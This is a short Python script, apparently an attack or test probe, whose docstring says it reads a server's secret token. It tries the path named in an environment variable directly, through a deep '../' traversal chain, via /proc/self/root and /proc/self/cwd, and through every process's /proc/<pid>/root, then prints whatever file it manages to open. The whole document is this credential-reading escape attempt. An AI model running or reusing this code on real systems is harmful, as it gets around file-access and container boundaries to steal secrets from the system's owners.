"""Reads the server's token: at its place, from the root of another process, and by a name that climbs up."""
import glob
import os

wanted = os.environ["TOKEN"]
ways = [wanted, "../" * 40 + wanted.lstrip("/"), "/proc/self/root" + wanted, "/proc/self/cwd/.." + wanted]
ways += [root + wanted for root in glob.glob("/proc/[0-9]*/root")]
for way in ways:
    try:
        with open(way) as file:
            print(file.read())
    except OSError:
        pass
